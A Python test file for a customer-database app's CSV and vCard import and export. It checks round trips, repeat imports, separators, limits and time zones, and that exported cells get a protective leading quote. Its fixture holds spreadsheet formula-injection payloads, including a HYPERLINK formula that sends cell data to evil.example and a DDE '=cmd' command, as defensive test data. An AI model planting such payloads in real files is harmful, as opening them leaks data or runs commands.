"""Import and export you can repeat (README.md#csv-files, issue 14), on both backends: byte-identical
round trips for customers, contacts, conversations and bookings, the same file imported twice
changes nothing, --skip-existing/--update, ; and tab files, any-case headers, spreadsheet-safe
cells, docs/data.md limits, case-insensitive customer numbers and logins."""

from __future__ import annotations

import datetime as dt
import io

import pytest

from storage.db.models import Booking, Contact, Conversation, Customer, Employee
from storage.exchange.csvexport import export
from storage.exchange.csvimport import import_conversations, import_customers
from storage.exchange.csvimport_more import import_bookings, import_contacts
from storage.exchange.csvio import CsvImportError
from storage.exchange.vcard import import_vcards, write_vcards
from tests import factories as f

KINDS = ("customers", "contacts", "conversations", "bookings")
CONFIG = {"timezone": "Europe/Berlin"}


def exported(kind: str, **options) -> str:
    out = io.StringIO()
    export(kind, "csv", out, **options)
    return out.getvalue()


def everything() -> dict[str, str]:
    return {kind: exported(kind) for kind in KINDS}


def importer(kind: str, path, mode: str = "error"):
    if kind == "customers":
        return import_customers(path, mode)
    if kind == "contacts":
        return import_contacts(path, mode)
    if kind == "conversations":
        return import_conversations(path, "tester", mode)
    return import_bookings(path, "tester", CONFIG, mode)


def hostile_data() -> None:
    """Cells a spreadsheet would run, quotes before them, line breaks, scripts, a booking."""
    f.employee("anna")
    evil = f.customer(
        '=HYPERLINK("http://evil.example/"&A1,"Click")',
        number="K-1",
        phone="+49 30 123",
        email="@home",
        notes="-5 degrees\r\nline two",
        address="'=already quoted once",
    )
    plain = f.customer("Ærø Ølhus", number="K-2", notes="\tstarts with a tab")
    Contact.create(customer=evil, name="=cmd|' /C calc'!A0", role="+boss", email="a@b.example")
    Contact.create(customer=plain, name="Åsa", role="", phone="-")
    talk = f.conversation(
        evil,
        "2026-03-02",
        time_begin="10:00",
        note="@SUM(1+1)",
        with_whom="''=x",
        follow_up="2026-03-20",
        employee_login="anna",
    )
    f.conversation(plain, "2026-03-01", note="ordinary")
    Booking.create(
        customer=evil,
        employee=Employee.get(Employee.login == "anna"),
        conversation=talk,
        start=dt.datetime(2026, 3, 20, 8, 30),
        end=dt.datetime(2026, 3, 20, 9, 15),
        timezone="Europe/Berlin",
        title="=1+1",
        location="-",
        note="bring\nthe contract",
    )


def test_hostile_cells_get_a_leading_quote_and_raw_keeps_them(ctx):
    hostile_data()
    text = exported("customers")
    assert '"\'=HYPERLINK(""http://evil.example/""&A1,""Click"")"' in text
    assert ",'+49 30 123," in text and ",'@home," in text
    assert "''=already quoted once" in text  # one more quote, so import gives back the one
    assert not any(line.startswith(("=", "+", "-", "@")) for cell in text.split(",") for line in [cell])
    raw = exported("customers", raw=True)
    assert '"=HYPERLINK(' in raw and ",+49 30 123," in raw


@pytest.mark.parametrize("kind", KINDS)
def test_round_trip_export_import_export_is_byte_identical(ctx, tmp_path, kind):
    hostile_data()
    before = everything()
    path = tmp_path / f"{kind}.csv"
    path.write_text(before[kind], encoding="utf-8", newline="")
    # Empty the table (and what depends on it), then import the export back.
    if kind == "customers":
        Customer.delete().execute()
        for other in ("contacts", "conversations", "bookings"):
            before[other] = exported(other)  # cascaded away with the customers
    elif kind == "contacts":
        Contact.delete().execute()
    elif kind == "conversations":
        Booking.update(conversation=None).execute()
        Conversation.delete().execute()
        before["bookings"] = exported("bookings")
    else:
        Booking.delete().execute()
    importer(kind, path)
    assert exported(kind).encode() == before[kind].encode()
    if kind == "conversations":
        # the uids came back: the booking's link is the only thing lost with the delete
        assert Conversation.select().where(Conversation.note == "@SUM(1+1)").count() == 1


@pytest.mark.parametrize("kind", KINDS)
def test_importing_the_same_file_twice_changes_nothing(ctx, tmp_path, kind):
    hostile_data()
    path = tmp_path / f"{kind}.csv"
    path.write_text(exported(kind), encoding="utf-8", newline="")
    before = everything()
    with pytest.raises(CsvImportError) as info:
        importer(kind, path)
    assert "already exists in the database" in str(info.value)
    assert everything() == before
    summary = importer(kind, path, "skip")
    assert summary.imported == 0 and summary.skipped > 0
    assert everything() == before


def test_update_overwrites_existing_rows(ctx, tmp_path):
    hostile_data()
    text = exported("customers").replace("Ærø Ølhus", "Ærø Ølhus ApS")
    (tmp_path / "c.csv").write_text(text, encoding="utf-8", newline="")
    summary = import_customers(tmp_path / "c.csv", "update")
    assert (summary.imported, summary.updated) == (0, 2)
    assert Customer.get(Customer.number == "K-2").name == "Ærø Ølhus ApS"
    assert Customer.select().count() == 2
    talk = Conversation.get(Conversation.note == "ordinary")
    lines = exported("conversations").replace("ordinary", "changed").split("\r\n")
    (tmp_path / "v.csv").write_text("\r\n".join(lines), encoding="utf-8", newline="")
    assert import_conversations(tmp_path / "v.csv", "tester", "update").updated == 2
    again = Conversation.get_by_id(talk.id)
    assert (again.note, again.uid, again.sequence) == ("changed", talk.uid, talk.sequence + 1)


@pytest.mark.parametrize("separator", [";", "\t"])
def test_semicolon_and_tab_files_with_any_case_headers(ctx, tmp_path, separator):
    f.customer("Alpha", number="A1")
    text = (
        separator.join(["Customer_Number", "NAME", "Role"]) + "\r\n" + separator.join(["a1", "Bo, Jr.", "CEO"]) + "\r\n"
    )
    (tmp_path / "c.csv").write_text(text, encoding="utf-8")
    assert import_contacts(tmp_path / "c.csv").imported == 1
    assert Contact.get().name == "Bo, Jr."  # a comma inside a ;-separated field stays


def test_customer_numbers_are_unique_ignoring_case(ctx, tmp_path):
    f.customer("Alpha", number="ab-1")
    (tmp_path / "c.csv").write_text("number,name\nAB-1,Alpha again\n", encoding="utf-8")
    with pytest.raises(CsvImportError, match="'AB-1' already exists in the database"):
        import_customers(tmp_path / "c.csv")
    (tmp_path / "d.csv").write_text("number,name\nX-1,One\nx-1,Two\n", encoding="utf-8")
    with pytest.raises(CsvImportError, match="already appears on line 2"):
        import_customers(tmp_path / "d.csv")
    assert Customer.select().count() == 1
    # and the database itself refuses a second one, whoever writes it
    from peewee import IntegrityError

    with pytest.raises(IntegrityError), Customer._meta.database.atomic():
        Customer.create(number="AB-1", name="sneaky")


def test_logins_are_one_employee_ignoring_case(ctx, tmp_path):
    f.customer("Alpha", number="A1")
    f.employee("Anna")
    (tmp_path / "v.csv").write_text("customer_number,employee,date\nA1,anna,2026-03-01\nA1,ANNA,2026-03-02\n")
    assert import_conversations(tmp_path / "v.csv", "tester").created == []
    assert Employee.select().where(Employee.login ** "anna").count() == 1
    from storage.config import ensure_employee

    assert ensure_employee("anna").login == "Anna"


@pytest.mark.parametrize(
    "value, message",
    [
        ("9999-12-31", "the year must be from 1900 to 2999"),
        ("0999-01-01", "the year must be from 1900 to 2999"),
    ],
)
def test_follow_up_years_outside_1900_2999_are_refused(ctx, tmp_path, value, message):
    f.customer("Alpha", number="A1")
    (tmp_path / "v.csv").write_text(f"customer_number,date,follow_up\nA1,2026-03-01,{value}\n")
    with pytest.raises(CsvImportError) as info:
        import_conversations(tmp_path / "v.csv", "tester")
    assert [str(e) for e in info.value.errors] == [f"line 2, column follow_up: '{value}': {message}"]
    assert Conversation.select().count() == 0


def test_names_longer_than_255_are_refused_not_cut(ctx, tmp_path):
    (tmp_path / "c.csv").write_text("number,name\nA1," + "n" * 256 + "\n")
    with pytest.raises(CsvImportError, match="line 2, column name: 256 characters, at most 255 allowed"):
        import_customers(tmp_path / "c.csv")


def test_bookings_keep_their_zone(ctx, tmp_path):
    f.customer("Alpha", number="A1")
    (tmp_path / "b.csv").write_text(
        "customer_number,start,end,timezone,title\nA1,2026-03-20 09:00,2026-03-20 10:00,UTC,Call\n"
    )
    (tmp_path / "c.csv").write_text("customer_number,start,end,title\nA1,2026-03-20 09:00,2026-03-20 10:00,Berlin\n")
    import_bookings(tmp_path / "b.csv", "tester", CONFIG)
    import_bookings(tmp_path / "c.csv", "tester", CONFIG)
    utc, berlin = Booking.get(Booking.title == "Call"), Booking.get(Booking.title == "Berlin")
    assert (utc.start, utc.timezone) == (dt.datetime(2026, 3, 20, 9, 0), "UTC")
    # no zone given: the configured one (Berlin is UTC+1 in March); stored as the UTC instant
    assert (berlin.start, berlin.timezone) == (dt.datetime(2026, 3, 20, 8, 0), "Europe/Berlin")
    assert "2026-03-20 09:00,2026-03-20 10:00,Europe/Berlin,Berlin" in exported("bookings")
    (tmp_path / "bad.csv").write_text(
        "customer_number,start,end,timezone\nA1,2026-03-20 09:00,2026-03-20 08:00,Mars/Base\n"
    )
    with pytest.raises(CsvImportError) as info:
        import_bookings(tmp_path / "bad.csv", "tester", CONFIG)
    assert [e.column for e in info.value.errors] == ["end", "timezone"]


def test_vcard_round_trip(ctx, tmp_path):
    hostile_data()
    out = io.StringIO()
    assert write_vcards(out) == 2
    before = exported("contacts")
    Contact.delete().execute()
    (tmp_path / "c.vcf").write_text(out.getvalue(), encoding="utf-8", newline="")
    assert import_vcards(tmp_path / "c.vcf").imported == 2
    assert exported("contacts") == before
    assert import_vcards(tmp_path / "c.vcf", mode="skip").skipped == 2
    with pytest.raises(CsvImportError, match="card 1, column name: contact"):
        import_vcards(tmp_path / "c.vcf")


def test_vcard_fields(ctx):
    customer = f.customer("Acme Ltd", number="A1")
    Contact.create(customer=customer, name="Ann Smith", role="Buyer", email="ann@acme.example", phone="+1 555")
    out = io.StringIO()
    write_vcards(out)
    lines = out.getvalue().split("\r\n")
    for line in (
        "FN:Ann Smith",
        "N:Smith;Ann;;;",
        "ORG:Acme Ltd",
        "TITLE:Buyer",
        "EMAIL:ann@acme.example",
        "TEL:+1 555",
        "X-RAPPORT-CUSTOMER:A1",
    ):
        assert line in lines


def test_vcard_matched_by_org_or_customer_option(ctx, tmp_path):
    f.customer("Acme Ltd", number="A1")
    f.customer("Other", number="B2")
    card = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jo Doe\r\nORG:ACME LTD\r\nTEL:+1 555\r\nEND:VCARD\r\n"
    (tmp_path / "a.vcf").write_text(card)
    import_vcards(tmp_path / "a.vcf")
    assert Contact.get().customer.number == "A1"
    import_vcards(tmp_path / "a.vcf", customer_number="b2")
    assert sorted(c.customer.number for c in Contact.select()) == ["A1", "B2"]
